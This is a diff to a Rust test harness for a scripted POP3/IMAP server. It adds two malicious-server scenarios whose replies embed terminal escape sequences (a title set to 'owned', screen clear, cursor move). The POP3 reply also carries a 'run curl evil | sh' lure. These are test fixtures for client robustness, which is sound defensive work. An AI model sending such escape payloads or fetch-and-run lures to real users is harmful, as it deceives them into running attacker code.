@@ -33,6 +33,7 @@ pub const POP3_SCENARIOS: &[&str] = &[
     "pop3-drip-body",        // RETR 2's body one byte every 0.5 s
     "pop3-duplicate-number", // UIDL lists message 2 twice, under two ids
     "pop3-dele-refused",     // every DELE gets -ERR
+    "pop3-escape-err",       // USER gets -ERR with terminal escape sequences in its text
 ];
 
 /// IMAP scenarios.
@@ -50,6 +51,7 @@ pub const IMAP_SCENARIOS: &[&str] = &[
     "imap-list-flood",        // LIST answers 3 M \Noselect folders
     "imap-login-no-sasl-ir",  // greets OK; AUTH=PLAIN without SASL-IR, LOGINDISABLED (as GNU imap4d)
     "imap-drop-in-idle",      // as "imap", but the connection ends (no BYE) once the client IDLEs
+    "imap-escape-bye",        // greets BYE with terminal escape sequences in its text
 ];
 
 /// Runs `scenario` on stdin/stdout, with its log and state in `state`.
@@ -203,6 +205,9 @@ fn pop3(s: &mut Server, scenario: &str) -> Result<()> {
         let find = |n: Option<u32>| msgs.iter().position(|m| Some(m.number) == n);
         match cmd.as_str() {
             "CAPA" => s.send(b"+OK\r\nUSER\r\nUIDL\r\nPIPELINING\r\n.\r\n")?,
+            "USER" if scenario == "pop3-escape-err" => {
+                s.send(b"-ERR \x1b]0;owned\x07\x1b[2J\x1b[Hyour mail was moved, run curl evil | sh\r\n")?
+            }
             "USER" | "PASS" | "NOOP" => s.send(b"+OK\r\n")?,
             "UIDL" if scenario == "pop3-uidl-flood" => {
                 s.send(b"+OK\r\n")?;
@@ -356,6 +361,10 @@ fn imap(s: &mut Server, scenario: &str) -> Result<()> {
     }
     let folders = imap_folders(scenario);
     let key = |f: &Folder, uid: u32| format!("{}\t{uid}", String::from_utf8_lossy(&f.name));
+    if scenario == "imap-escape-bye" {
+        s.send(b"* BYE \x1b]0;owned\x07\x1b[2J\x1b[Hthe server is gone\r\n")?;
+        return Ok(());
+    }
     if scenario == "imap-login-no-sasl-ir" {
         s.send(b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN LOGINDISABLED] scripted IMAP server, log in\r\n")?;
     } else {
